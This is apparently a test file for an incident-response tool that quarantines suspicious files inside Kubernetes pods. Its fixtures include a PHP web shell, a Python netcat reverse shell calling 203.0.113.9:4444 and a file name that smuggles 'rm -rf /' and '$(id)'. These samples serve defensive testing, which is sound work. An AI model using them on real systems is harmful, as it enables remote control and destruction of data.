/**
 * quarantine-file against the real client-node and a fake Kubernetes API whose pods are
 * temp dirs running real programs (mv, chmod, stat, sha256sum, find…).
 */
import { createHash } from 'node:crypto';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { destroyAwsClients, type AwsClients } from '../../../src/aws/clients.js';
import { loadConfig, type PipelineSettings } from '../../../src/config.js';
import { ProtectedTargetError } from '../../../src/errors.js';
import { createKubeClients } from '../../../src/kube/clients.js';
import { createSilentLogger } from '../../../src/logger.js';
import { quarantineFile, quarantineFileAction, type QuarantineFileInput } from '../../../src/pipeline/actions/quarantineFile.js';
import type { ActionDeps } from '../../../src/pipeline/actions/types.js';
import { invokeAction } from '../../../src/pipeline/invokeAction.js';
import { createMotoClients } from '../../support/aws.js';
import { startFakeKube, type FakeKube, type FakePod } from '../../support/fakeKube/index.js';

const NS = 'web';
const QDIR = '/var/tmp/sentinel-quarantine';
const T0 = new Date('2026-03-01T12:00:00.000Z');
const READ_ONLY = new Set(['stat', 'sha256sum', 'find', 'ls', 'cat', 'head', 'wc', 'test']);

let fake: FakeKube;
let aws: AwsClients;
let podCount = 0;

beforeAll(async () => {
  fake = await startFakeKube();
  aws = createMotoClients();
});

afterAll(async () => {
  destroyAwsClients(aws);
  await fake.close();
});

beforeEach(() => {
  fake.clearRecords();
});

afterEach(async () => {
  await fake.idle();
});

function settings(overrides: Partial<PipelineSettings> = {}): PipelineSettings {
  return { ...loadConfig({ env: {}, envFile: false }).pipeline, ...overrides };
}

function deps(overrides: Partial<PipelineSettings> = {}, now: () => Date = () => T0): ActionDeps {
  return { aws, kube: createKubeClients(fake.kubeConfig()), settings: settings(overrides), logger: createSilentLogger(), now };
}

function newPod(files: Record<string, string | Buffer>, containers: string[] = ['app']): FakePod {
  podCount += 1;
  return fake.addPod({ namespace: NS, name: `web-${podCount}`, containers, files });
}

function sha256(data: string | Buffer): string {
  return createHash('sha256').update(data).digest('hex');
}

const argvs = () => fake.execs.map((e) => e.argv);
const request = (input: QuarantineFileInput) => ({ input, actor: 'cli', incidentId: 'inc-1' });

describe('quarantine-file', () => {
  it('moves the file to quarantine_<sha12>_<name> with mode 000 and verifies it', async () => {
    const path = '/var/www/html/uploads/shell.php';
    const content = '<?php system($_GET["c"]); ?>\n';
    const pod = newPod({ [path]: content, '/var/www/html/index.php': 'index' });
    const hash = sha256(content);
    const to = `${QDIR}/quarantine_${hash.slice(0, 12)}_shell.php`;

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.summary).toContain(to);
    expect(result.details).toEqual({
      namespace: NS,
      pod: pod.name,
      container: 'app',
      from: path,
      to,
      sha256: hash,
      size: Buffer.byteLength(content),
      mode: '000',
      notes: [],
    });
    expect(pod.exists(path)).toBe(false);
    expect(pod.mode(to)).toBe(0);
    expect(pod.mode(QDIR)).toBe(0o700);
    expect(pod.sha256(to)).toBe(hash);
    expect(pod.readText('/var/www/html/index.php')).toBe('index');
    expect(argvs()).toEqual([
      ['stat', '-c', '%s %a %F', '--', path],
      ['sha256sum', '--', path],
      ['stat', '-c', '%s %a %F', '--', to],
      ['mkdir', '-p', '-m', '700', '--', QDIR],
      ['stat', '-c', '%s %a %F', '--', QDIR],
      ['mv', '--', path, to],
      ['sha256sum', '--', to],
      ['chmod', '000', '--', to],
      ['stat', '-c', '%s %a %F', '--', to],
      ['stat', '-c', '%s %a %F', '--', path],
    ]);
  });

  it('a rerun finds the quarantined copy and is skipped (by name, and by the extracted sha256)', async () => {
    const path = '/srv/app/backdoor.py';
    const content = 'import os; os.system("nc -e /bin/sh 203.0.113.9 4444")\n';
    const pod = newPod({ [path]: content });
    const first = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    const to = (first.details as { to: string }).to;
    fake.clearRecords();

    const byName = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(byName.status).toBe('skipped');
    expect(byName.summary).toMatch(new RegExp(`^already quarantined at ${to.replace(/[.]/g, '\\.')}`));
    expect(byName.details).toMatchObject({ to, quarantined: [to] });
    expect(argvs()).toEqual([
      ['stat', '-c', '%s %a %F', '--', path],
      ['find', QDIR, '-maxdepth', '1', '-type', 'f', '-name', `quarantine_${'[0-9a-f]'.repeat(12)}_backdoor.py`],
    ]);
    fake.clearRecords();

    const bySha = await invokeAction(
      quarantineFileAction,
      { namespace: NS, pod: pod.name, path, sha256: sha256(content).toUpperCase() },
      { actor: 'cli', incidentId: 'inc-1' },
      deps(),
    );
    expect(bySha.status).toBe('skipped');
    expect(bySha.details).toMatchObject({ to });
    expect(argvs()).toEqual([
      ['stat', '-c', '%s %a %F', '--', path],
      ['stat', '-c', '%s %a %F', '--', to],
    ]);
    expect(pod.mode(to)).toBe(0);
    expect(pod.sha256(to)).toBe(sha256(content));
  });

  it('a dry run returns the plan and changes nothing', async () => {
    const path = '/app/public/x.jsp';
    const pod = newPod({ [path]: 'jsp' });
    const before = pod.list();

    const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1', dryRun: true }, deps());

    const to = `${QDIR}/quarantine_${sha256('jsp').slice(0, 12)}_x.jsp`;
    expect(result.status).toBe('skipped');
    expect(result.summary).toBe(`dry run: would move ${JSON.stringify(path)} in ${NS}/${pod.name} (container app) to ${to} and make it mode 000`);
    expect(result.details).toMatchObject({ dryRun: true, from: path, to, sha256: sha256('jsp'), mode: '000' });
    expect((result.details as { steps: string[][] }).steps).toContainEqual(['mv', '--', path, to]);
    expect(fake.execs.length).toBeGreaterThan(0);
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
    expect(pod.list()).toEqual(before);
    expect(pod.exists(QDIR)).toBe(false);
    expect(pod.mode(path)).toBe(0o644);
  });

  it('a missing file with no quarantined copy is skipped: file not found', async () => {
    const pod = newPod({ '/tmp/other.txt': 'o' });
    const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path: '/tmp/gone.php' }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/^file not found: "\/tmp\/gone\.php"/);
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
    expect(pod.exists(QDIR)).toBe(false);
  });

  it('does not count a quarantined file of another name whose sanitized name merely ends the same', async () => {
    const pod = newPod({ '/tmp/a b.php': 'one' });
    await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/tmp/a b.php' }), deps()); // quarantine_<sha12>_a_b.php
    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path: '/tmp/b.php' }), deps());
    expect(result.status).toBe('skipped');
    expect(result.summary).toMatch(/^file not found/);
  });

  it('handles a name full of shell metacharacters as data and touches nothing else', async () => {
    const path = "/tmp/x'; rm -rf / #$(id)`id`\n.php";
    const content = 'evil';
    const others = { '/etc/passwd': 'root:x:0:0:root:/root:/bin/sh\n', '/var/www/html/index.php': '<?php echo 1;', '/tmp/keep.txt': 'keep' };
    const pod = newPod({ [path]: content, ...others });
    const before = pod.list().filter((p) => p !== path);
    const to = `${QDIR}/quarantine_${sha256(content).slice(0, 12)}_____id__id__.php`;

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ from: path, to, sha256: sha256(content), mode: '000' });
    expect(argvs()).toContainEqual(['mv', '--', path, to]);
    expect(argvs()).toContainEqual(['sha256sum', '--', path]);
    expect(fake.execs.every((e) => e.refused === undefined)).toBe(true);
    expect(pod.exists(path)).toBe(false);
    expect(pod.readText(to)).toBe(content);
    expect(pod.list().filter((p) => p !== to)).toEqual(before);
    for (const [p, c] of Object.entries(others)) expect(pod.readText(p)).toBe(c);

    // The rerun finds it by its sanitized name.
    const again = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    expect(again.status).toBe('skipped');
    expect(again.details).toMatchObject({ to });
  });

  it.each([
    ['/var/www/../../etc/passwd', 'PathTraversal'],
    ['/tmp/./x.php', 'PathTraversal'],
    ['/etc/passwd', 'PathOutsideRoots'],
    ['/var/www', 'PathOutsideRoots'],
    [`${QDIR}/quarantine_0123456789ab_x.php`, 'PathInQuarantine'],
    [QDIR, 'PathInQuarantine'],
  ])('refuses %j before any Kubernetes call', async (path, code) => {
    const pod = newPod({ '/etc/passwd': 'root', '/var/www/x': 'x' });
    const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: code, final: true });
    expect(fake.execs).toEqual([]);
    expect(fake.calls).toEqual([]);
    await expect(quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps())).rejects.toBeInstanceOf(ProtectedTargetError);
    expect(pod.readText('/etc/passwd')).toBe('root');
  });

  it('refuses bad input', async () => {
    for (const input of [
      { namespace: 'web', pod: 'Bad_Pod', path: '/tmp/x' },
      { namespace: 'web', pod: 'p', path: 'x' },
      { namespace: 'web', pod: 'p', path: '/tmp/x', sha256: 'abc' },
    ]) {
      const result = await invokeAction(quarantineFileAction, input, { actor: 'cli', incidentId: 'inc-1' }, deps());
      expect(result).toMatchObject({ status: 'failed', details: { error: 'InvalidInput', final: true } });
    }
    expect(fake.calls).toEqual([]);
  });

  it('a missing pod fails with NotFound', async () => {
    const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: 'no-such-pod', path: '/tmp/x' }, { actor: 'cli', incidentId: 'inc-1' }, deps());
    expect(result).toEqual({ status: 'failed', summary: `pod ${NS}/no-such-pod not found`, details: { error: 'PodNotFound', final: true } });
    expect(fake.execs).toEqual([]);
  });

  it('refuses a symlink (it would move the link and leave the target) and a directory', async () => {
    const pod = newPod({ '/var/www/html/real.php': 'real' });
    pod.symlink('real.php', '/var/www/html/link.php');
    pod.mkdir('/var/www/html/dir');

    for (const [path, type] of [
      ['/var/www/html/link.php', 'symbolic link'],
      ['/var/www/html/dir', 'directory'],
    ] as const) {
      const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1' }, deps());
      expect(result.status).toBe('failed');
      expect(result.summary).toContain(`is a ${type}, not a regular file`);
      expect(result.details).toEqual({ error: 'NotRegularFile', final: true });
    }
    expect(pod.stat('/var/www/html/link.php').isSymbolicLink()).toBe(true);
    expect(pod.readText('/var/www/html/real.php')).toBe('real');
    expect(fake.execs.every((e) => READ_ONLY.has(e.argv[0]!))).toBe(true);
  });

  it('refuses to move anything into a quarantine directory that is a planted symlink', async () => {
    const path = '/tmp/drop.php';
    const pod = newPod({ [path]: 'drop', '/var/www/html/index.php': 'index' });
    pod.symlink('../www/html', QDIR); // /var/tmp/sentinel-quarantine -> /var/www/html

    const result = await invokeAction(quarantineFileAction, { namespace: NS, pod: pod.name, path }, { actor: 'cli', incidentId: 'inc-1' }, deps());

    expect(result.status).toBe('failed');
    expect(result.details).toEqual({ error: 'QuarantineDirUnsafe', final: true });
    expect(pod.readText(path)).toBe('drop');
    expect(pod.list('/var/www/html')).toEqual(['/var/www/html/index.php']);
    expect(argvs().map((a) => a[0])).not.toContain('mv');
  });

  it('a second copy of already quarantined content is moved beside it; nothing is overwritten or removed', async () => {
    const path = '/home/www/upload.php';
    const content = 'same payload';
    const pod = newPod({ [path]: content });
    const first = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps());
    const to = (first.details as { to: string }).to;
    pod.writeFile(path, content); // the attacker uploads it again

    const later = new Date('2026-03-01T13:14:15.678Z');
    const second = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps({}, () => later));

    const dup = `${to}.dup-20260301T131415Z`;
    expect(second.status).toBe('succeeded');
    expect(second.details).toMatchObject({ to: dup, sha256: sha256(content), mode: '000' });
    expect((second.details as { notes: string[] }).notes).toEqual([`${to} already holds the same content; storing this copy beside it`]);
    expect(pod.exists(path)).toBe(false);
    expect(pod.list(QDIR)).toEqual([to, dup]);
    expect(pod.mode(to)).toBe(0);
    expect(pod.mode(dup)).toBe(0);
    expect(argvs().map((a) => a[0])).not.toContain('rm');
  });

  it('quarantines content that changed since extraction, and says so', async () => {
    const path = '/opt/tool/run.sh';
    const pod = newPod({ [path]: 'v2' });
    const expected = sha256('v1');

    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path, sha256: expected }), deps());

    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ sha256: sha256('v2'), expectedSha256: expected, to: `${QDIR}/quarantine_${sha256('v2').slice(0, 12)}_run.sh` });
    expect((result.details as { notes: string[] }).notes[0]).toMatch(/changed since extraction/);
  });

  it('uses the configured quarantine directory and roots', async () => {
    const path = '/data/incoming/evil.bin';
    const pod = newPod({ [path]: 'bin' });
    const result = await quarantineFile(request({ namespace: NS, pod: pod.name, path }), deps({ quarantineRoots: ['/data'], quarantineDir: '/data/.q//' }));
    expect(result.status).toBe('succeeded');
    expect(result.details).toMatchObject({ to: `/data/.q/quarantine_${sha256('bin').slice(0, 12)}_evil.bin` });
    expect(pod.mode('/data/.q')).toBe(0o700);
  });
});
